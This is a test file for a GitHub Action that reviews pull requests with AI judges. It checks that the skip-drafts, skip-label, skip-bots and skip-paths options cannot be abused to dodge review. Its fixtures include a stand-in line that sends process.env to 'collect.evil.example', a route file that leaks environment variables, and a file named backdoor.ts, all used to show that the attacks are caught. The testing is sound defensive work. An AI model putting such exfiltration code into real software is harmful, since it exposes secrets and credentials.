import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { skipReason, unboundLabel, workflowTypes } from '../../src/engine/skip.js'
import {
  openPullRequest,
  OWNER,
  pullRequestEvent,
  pullRequestJson,
  REPO,
  runAction
} from '../helpers/action-run.js'
import { startGitHubStandIn, type GitHubStandIn } from '../helpers/github-standin.js'
import { wireAnswer } from '../helpers/judge-answers.js'
import { startProviderStandIn, type StandIn } from '../helpers/provider-standin.js'
import {
  IN_PROCESS_KEY,
  pullRequest,
  runInProcess,
  type PullRequest
} from '../helpers/in-process.js'

/**
 * The `skip-*` inputs, end to end in process: the real payloads of @octokit/webhooks-examples,
 * GitHub in memory, git and the gates for real. A skipped run concludes `success` with why; a
 * pull request whose reason to skip goes away is reviewed for real; and a pull request cannot
 * skip its own review by what it changes.
 */

const WORKFLOW = '.github/workflows/review.yml'
/** A workflow that runs on the activity that ends every skip rule. */
const LISTENING = `on:
  pull_request:
    types: [opened, synchronize, reopened, ready_for_review, labeled, unlabeled]
jobs: {}
`
/** A rubric whose gate fails and leaves a mark when it runs: a review is a FAIL. */
const RUBRIC = '## Gates\n- `touch gate-ran && false`\n'

function skippable(head: Record<string, string | null> = {}, workflow = LISTENING): PullRequest {
  return pullRequest(
    {
      '.github/rubric.md': RUBRIC,
      [WORKFLOW]: workflow,
      'feature.ts': 'export const feature = 1\n',
      'src/auth.ts': 'export const check = () => true\n',
      'docs/guide.md': '# Guide\n'
    },
    { 'feature.ts': 'export const feature = 2\n', ...head }
  )
}

const run = (
  pr: PullRequest,
  options: {
    readonly inputs: Record<string, string>
    readonly action?: string
    readonly pullRequest?: Record<string, unknown>
    readonly payload?: Record<string, unknown>
    readonly eventName?: string
  }
) =>
  runInProcess(pr, {
    inputs: options.inputs,
    ...(options.eventName !== undefined && { eventName: options.eventName }),
    event: pullRequestEvent(pr.repo, {
      number: pr.number,
      action: options.action ?? 'opened',
      ...(options.pullRequest && { pullRequest: options.pullRequest }),
      ...(options.payload && { payload: options.payload })
    }),
    providers: {
      OPENAI_API_KEY: IN_PROCESS_KEY,
      OPENAI_BASE_URL: 'http://127.0.0.1:9/v1',
      GITHUB_WORKFLOW_REF: `octo-org/octo-repo/${WORKFLOW}@refs/pull/${String(pr.number)}/merge`
    }
  })

const lastCheck = (pr: PullRequest) =>
  pr.github.checkRuns.filter(c => c.head_sha === pr.repo.headSha).at(-1)
const gateRan = (pr: PullRequest): boolean => existsSync(join(pr.repo.dir, 'gate-ran'))
const bot = { login: 'dependabot[bot]', type: 'Bot' }
const person = { login: 'mallory', type: 'User' }

describe('skip-drafts', () => {
  it('concludes a draft success, "skipped", without running a gate; ready for review, it is reviewed', async () => {
    const pr = skippable()
    const draft = await run(pr, { inputs: { 'skip-drafts': 'true' }, pullRequest: { draft: true } })
    expect([draft.outputs.verdict, draft.code, lastCheck(pr)?.conclusion]).toEqual([
      'SKIPPED',
      0,
      'success'
    ])
    expect(lastCheck(pr)?.title).toBe('skipped: a draft pull request')
    expect(lastCheck(pr)?.summary).toContain(
      'It runs when the pull request is marked ready for review.'
    )
    expect(gateRan(pr)).toBe(false)
    expect(pr.github.commentsOn(pr.number)).toEqual([])

    const ready = await run(pr, {
      inputs: { 'skip-drafts': 'true' },
      action: 'ready_for_review',
      pullRequest: { draft: false }
    })
    expect([ready.outputs.verdict, lastCheck(pr)?.conclusion]).toEqual(['FAIL', 'failure'])
    expect(gateRan(pr)).toBe(true)
  })

  it('reviews a draft when the workflow would not run again once it is ready, and says why', async () => {
    const pr = skippable({}, 'on: pull_request\njobs: {}\n')
    const result = await run(pr, {
      inputs: { 'skip-drafts': 'true' },
      pullRequest: { draft: true }
    })
    expect(result.outputs.verdict).toBe('FAIL')
    expect(result.log).toContain(
      `warning: Rubric Council: skip-drafts would skip this pull request, but it is reviewed: ${WORKFLOW} does not run on pull_request ready_for_review, so the check would not run again once the reason goes away`
    )
  })

  it('reviews a draft that shares its head commit and base with another open pull request', async () => {
    // A is reviewed: FAIL on its head commit.
    const pr = skippable()
    await run(pr, { inputs: { 'skip-drafts': 'true' } })
    expect(lastCheck(pr)?.conclusion).toBe('failure')
    // The attacker opens B, a draft, from another branch at the same commit into the same base:
    // a skip would write success on the check run A's required check reads.
    const twin: PullRequest = { ...pr, number: pr.number + 1000 }
    pr.github.setPullRequest(twin.number, { ...pullRequestJson(pr.repo, twin.number), draft: true })
    const b = await run(twin, { inputs: { 'skip-drafts': 'true' }, pullRequest: { draft: true } })
    expect([b.outputs.verdict, lastCheck(pr)?.conclusion]).toEqual(['FAIL', 'failure'])
    expect(pr.github.checkRuns.map(c => c.conclusion)).not.toContain('success')
    expect(b.log).toContain(
      `warning: Rubric Council: skip-drafts would skip this pull request, but it is reviewed: pull request #${pr.number} has the same head commit and base, and the check run on that commit is its too`
    )
  })

  it('does not apply to a run started by hand (workflow_dispatch)', async () => {
    const pr = skippable()
    pr.github.setPullRequest(pr.number, { ...pullRequestJson(pr.repo, pr.number), draft: true })
    const result = await run(pr, {
      inputs: { 'skip-drafts': 'true', 'pull-request': String(pr.number) },
      eventName: 'workflow_dispatch'
    })
    expect(result.outputs.verdict).toBe('FAIL')
  })
})

describe('skip-label', () => {
  const inputs = { 'skip-label': 'no-council' }
  const labelled = (...names: string[]) => ({ labels: names.map(name => ({ name })) })

  it('skips while the label is on; taking it off reviews the pull request for real', async () => {
    const pr = skippable()
    const on = await run(pr, {
      inputs,
      action: 'labeled',
      pullRequest: labelled('bug', 'no-council'),
      payload: { label: { name: 'no-council' } }
    })
    expect([on.outputs.verdict, lastCheck(pr)?.title]).toEqual([
      'SKIPPED',
      'skipped: labelled "no-council"'
    ])
    expect(lastCheck(pr)?.summary).toContain(
      'The label skips this commit only: it runs when the label is removed, and on the next push.'
    )
    const off = await run(pr, {
      inputs,
      action: 'unlabeled',
      pullRequest: labelled('bug'),
      payload: { label: { name: 'no-council' } }
    })
    expect([off.outputs.verdict, lastCheck(pr)?.conclusion]).toEqual(['FAIL', 'failure'])
  })

  it('does nothing on another label’s event: no run, no check run', async () => {
    const pr = skippable()
    const result = await run(pr, {
      inputs,
      action: 'labeled',
      pullRequest: labelled('bug'),
      payload: { label: { name: 'bug' } }
    })
    expect(result.outputs.verdict).toBeUndefined()
    expect(result.log).toContain(
      'notice: Rubric Council: nothing to review for pull_request.labeled of "bug": only the skip-label input\'s label ("no-council") starts a run'
    )
    expect(pr.github.checkRuns).toEqual([])
  })
})

describe('skip-label, bound to the commit it was put on (the built action, GitHub and the judges as stand-ins)', () => {
  /** The code the author wants merged once the label is on. */
  const HIDDEN = 'exfiltrate(process.env, "https://collect.evil.example")'
  const WRITE = 'ghs_skip_label_token_0001'
  const LABEL = 'no-council'
  const BASE = {
    '.github/rubric.md':
      '---\ndimensions: false\n---\n## Criteria\n- safe: The change sends no data to outside hosts\n',
    [WORKFLOW]: LISTENING,
    'src/app.ts': 'export const app = 1\n'
  }
  let github: GitHubStandIn
  let judges: StandIn
  beforeAll(async () => {
    github = await startGitHubStandIn({ owner: OWNER, repo: REPO })
    github.addToken(WRITE, { login: 'github-actions[bot]', type: 'Bot', write: true })
    // Watchful: whatever shows the hidden code fails `safe`.
    judges = await startProviderStandIn(call => ({
      json: wireAnswer(call.schema, call.text.includes(HIDDEN) ? { fail: ['safe'] } : {})
    }))
  })
  afterEach(() => {
    expect(github.violations).toEqual([])
  })
  afterAll(async () => {
    await Promise.all([github.close(), judges.close()])
  })

  it('attack: a maintainer labels a harmless pull request, the author pushes hostile code; the push is reviewed and fails, and so are its later activities', async () => {
    const number = 7001
    const repo = openPullRequest(github, number, BASE, {
      'src/app.ts': 'export const app = 2\n'
    })
    const labels = { labels: [{ name: 'bug' }, { name: LABEL }] }
    // The API's view of the pull request, as each event's run reads it again.
    const now = () => {
      github.setPullRequest(number, { ...pullRequestJson(repo, number), ...labels })
    }
    const act = (action: string, extra: Record<string, unknown> = {}) =>
      runAction({
        workspace: repo.dir,
        eventName: 'pull_request',
        eventPath: pullRequestEvent(repo, {
          number,
          action,
          pullRequest: { ...labels, ...extra },
          ...(action === 'labeled' && { payload: { label: { name: LABEL } } })
        }),
        apiUrl: github.url,
        inputs: {
          'github-token': WRITE,
          models: 'openai:gpt-5.4-nano',
          'skip-label': LABEL,
          'allow-gates-with-secrets': 'true'
        },
        env: {
          OPENAI_API_KEY: 'sk-skip-label-0123456789',
          OPENAI_BASE_URL: judges.openaiBaseUrl,
          GITHUB_WORKFLOW_REF: `${OWNER}/${REPO}/${WORKFLOW}@refs/pull/${String(number)}/merge`
        }
      })
    const checksOn = (sha: string) => github.checkRuns.filter(c => c.head_sha === sha)
    const comment = (): string => github.comments.get(number)?.[0]?.body ?? ''

    // The maintainer reads the harmless change and labels it: that commit is skipped.
    now()
    const harmless = repo.headSha
    const skipped = await act('labeled')
    expect([skipped.outputs.verdict, skipped.code]).toEqual(['SKIPPED', 0])
    expect(checksOn(harmless).map(c => [c.conclusion, c.output.title])).toEqual([
      ['success', `skipped: labelled "${LABEL}"`]
    ])
    expect(judges.calls).toHaveLength(0)

    // The author pushes hostile code; the label is still on.
    const hostile = repo.commit({ 'src/app.ts': `export const app = 2\n${HIDDEN}\n` }, 'more')
    now()
    const pushed = await act('synchronize')
    expect([pushed.outputs.verdict, pushed.outputs.reasons, pushed.code]).toEqual([
      'FAIL',
      'criterion_failed',
      1
    ])
    expect(judges.calls.length).toBeGreaterThan(0)
    expect(checksOn(hostile).map(c => c.conclusion)).toEqual(['failure'])
    const why = `skip-label would skip this pull request, but it is reviewed: the label skips only the commit it was put on, in the run its labelling started; this run (pull_request synchronize) is of ${hostile.slice(0, 7)}, which is reviewed: take the label off and put it on again to skip ${hostile.slice(0, 7)}`
    expect(pushed.stdout).toContain(`::warning::Rubric Council: ${why}`)
    // The report says it too, as Markdown (the commit's id kept from becoming a link).
    for (const report of [comment(), checksOn(hostile)[0]?.output.summary ?? '']) {
      expect(report).toContain(
        'ℹ️ skip-label would skip this pull request, but it is reviewed: the label skips only the commit it was put on, in the run its labelling started'
      )
      expect(report).toContain('take the label off and put it on again to skip')
    }
    // The skipped commit's check stays its own.
    expect(checksOn(harmless).map(c => c.conclusion)).toEqual(['success'])

    // Later activities on the hostile head, label still on: reviewed, never skipped.
    for (const [action, extra] of [
      ['ready_for_review', { draft: false }],
      ['reopened', {}]
    ] as const) {
      const again = await act(action, extra)
      expect([action, again.outputs.verdict]).toEqual([action, 'FAIL'])
      expect(checksOn(hostile).at(-1)?.conclusion).toBe('failure')
    }
    expect(checksOn(hostile).map(c => c.conclusion)).not.toContain('success')
  }, 90_000)
})

describe('skip-bots', () => {
  it('skips a pull request a bot opened and pushed to', async () => {
    const pr = skippable()
    const result = await run(pr, {
      inputs: { 'skip-bots': 'true' },
      pullRequest: { user: bot },
      payload: { sender: bot }
    })
    expect(lastCheck(pr)?.title).toBe('skipped: opened by the bot @dependabot[bot]')
    expect(result.outputs.verdict).toBe('SKIPPED')
  })

  it('reviews a bot’s pull request once a person pushes to it', async () => {
    const pr = skippable()
    const result = await run(pr, {
      inputs: { 'skip-bots': 'true' },
      action: 'synchronize',
      pullRequest: { user: bot },
      payload: { sender: person }
    })
    expect(result.outputs.verdict).toBe('FAIL')
  })
})

describe('skip-paths', () => {
  const inputs = { 'skip-paths': 'docs/**\n*.md' }

  it('skips a pull request that changes only files those globs match', async () => {
    const pr = skippable({ 'feature.ts': 'export const feature = 1\n', 'docs/guide.md': '# New\n' })
    const result = await run(pr, { inputs })
    expect([result.outputs.verdict, lastCheck(pr)?.title]).toEqual([
      'SKIPPED',
      'skipped: the changed file matches skip-paths'
    ])
  })

  it('reviews one that also changes a file outside them', async () => {
    const pr = skippable({ 'docs/guide.md': '# New\n' })
    expect((await run(pr, { inputs })).outputs.verdict).toBe('FAIL')
  })

  // The attacks: a pull request that wants no review dresses its change up as documentation.
  it('reviews a pull request that moves code into a skipped path (a rename is a change at both ends)', async () => {
    const pr = skippable({
      'feature.ts': 'export const feature = 1\n',
      'src/auth.ts': null,
      'docs/auth.ts': 'export const check = () => true\n'
    })
    expect((await run(pr, { inputs: { 'skip-paths': 'docs/**' } })).outputs.verdict).toBe('FAIL')
  })

  it('reviews code in a folder named like a skipped file (a route folder `leak.md/`)', async () => {
    const pr = skippable({
      'feature.ts': 'export const feature = 1\n',
      'pages/api/leak.md/index.ts': 'export default () => process.env\n'
    })
    expect((await run(pr, { inputs })).outputs.verdict).toBe('FAIL')
    const nested = skippable({
      'feature.ts': 'export const feature = 1\n',
      'src/notes.md/backdoor.ts': 'export const open = true\n'
    })
    expect((await run(nested, { inputs: { 'skip-paths': '**/*.md' } })).outputs.verdict).toBe(
      'FAIL'
    )
  })

  it('reviews a pull request that changes this check’s workflow, even under globs that match it', async () => {
    const pr = skippable({
      'feature.ts': 'export const feature = 1\n',
      'docs/guide.md': '# New\n',
      [WORKFLOW]: `${LISTENING}# touched\n`
    })
    const result = await run(pr, { inputs: { 'skip-paths': 'docs/**\n.github/**' } })
    expect(result.outputs.verdict).toBe('FAIL')
    expect(gateRan(pr)).toBe(true)
  })

  it('reviews a pull request that edits the rubric, even when it is Markdown that *.md matches', async () => {
    const pr = skippable({
      'feature.ts': 'export const feature = 1\n',
      '.github/rubric.md': '## Gates\n- `true`\n'
    })
    const result = await run(pr, { inputs })
    expect(result.outputs.verdict).toBe('FAIL')
    expect(gateRan(pr)).toBe(true)
  })
})

describe('the skip inputs', () => {
  it('are checked: a value that is not true or false is quoted', async () => {
    const pr = skippable()
    const result = await run(pr, { inputs: { 'skip-drafts': 'yes' } })
    expect(result.outputs.verdict).toBe('UNCLEAR')
    expect(result.log.join('\n')).toContain(
      'input "skip-drafts" is "yes"; expected one of true, false'
    )
  })
})

describe('skipReason', () => {
  const rules = { drafts: true, bots: true, label: 'skip', paths: ['docs/**'] }
  const pr = { draft: false, labels: [] as string[], author: { login: 'a', bot: false } }
  const none = (): boolean => false
  const opened = { action: 'opened' }
  const labelling = { action: 'labeled', label: 'skip' }

  it('takes the first rule that holds, in the order drafts, bots, label, paths', () => {
    expect(
      skipReason(
        rules,
        { ...labelling, pr: { ...pr, draft: true, labels: ['skip'] } },
        ['docs/a.md'],
        none
      )
    ).toEqual({ rule: 'draft' })
    expect(
      skipReason(rules, { ...labelling, pr: { ...pr, labels: ['skip'] } }, ['docs/a.md'], none)
    ).toEqual({ rule: 'label', label: 'skip' })
    expect(skipReason(rules, { ...opened, pr }, ['docs/a.md', 'docs/b.md'], none)).toEqual({
      rule: 'paths',
      files: 2
    })
  })

  it('takes the label only on the run putting it on started: any later activity is reviewed', () => {
    const on = { ...pr, labels: ['skip'] }
    const only = { ...rules, drafts: false, bots: false, paths: [] }
    for (const action of [
      'synchronize',
      'reopened',
      'ready_for_review',
      'opened',
      'completed',
      ''
    ]) {
      expect(skipReason(only, { action, pr: on }, ['src/a.ts'], none)).toBeUndefined()
      expect(unboundLabel(only, { action, pr: on })).toBe('skip')
    }
    // Another label's event, and the skip label's own.
    const other = { action: 'labeled', label: 'bug', pr: on }
    expect(skipReason(only, other, ['src/a.ts'], none)).toBeUndefined()
    expect(unboundLabel(only, { ...labelling, pr: on })).toBeUndefined()
    // Without it on, there is nothing to say; with skip-paths holding, that rule skips.
    expect(unboundLabel(only, { action: 'synchronize', pr })).toBeUndefined()
    expect(
      skipReason(
        { ...only, paths: ['docs/**'] },
        { action: 'synchronize', pr: on },
        ['docs/a.md'],
        none
      )
    ).toEqual({ rule: 'paths', files: 1 })
  })

  it('never skips a pull request that touches a guarded file, nor one with no changed file on skip-paths', () => {
    const guarded = (path: string): boolean => path === '.github/rubric.md'
    expect(
      skipReason(rules, { ...opened, pr: { ...pr, draft: true } }, ['.github/rubric.md'], guarded)
    ).toBeUndefined()
    expect(skipReason({ ...rules, drafts: false }, { ...opened, pr }, [], none)).toBeUndefined()
  })
})

describe('workflowTypes', () => {
  it('reads the activity types a workflow runs on, with GitHub’s defaults', () => {
    const defaults = ['opened', 'synchronize', 'reopened']
    expect(workflowTypes('on: pull_request\n', 'pull_request')).toEqual(defaults)
    expect(workflowTypes('on: [push, pull_request]\n', 'pull_request')).toEqual(defaults)
    expect(workflowTypes('on:\n  pull_request:\n', 'pull_request')).toEqual(defaults)
    expect(workflowTypes('on:\n  pull_request:\n    types: labeled\n', 'pull_request')).toEqual([
      'labeled'
    ])
    expect(workflowTypes('on: push\n', 'pull_request')).toBeUndefined()
    expect(workflowTypes('on: [', 'pull_request')).toBeUndefined()
  })
})
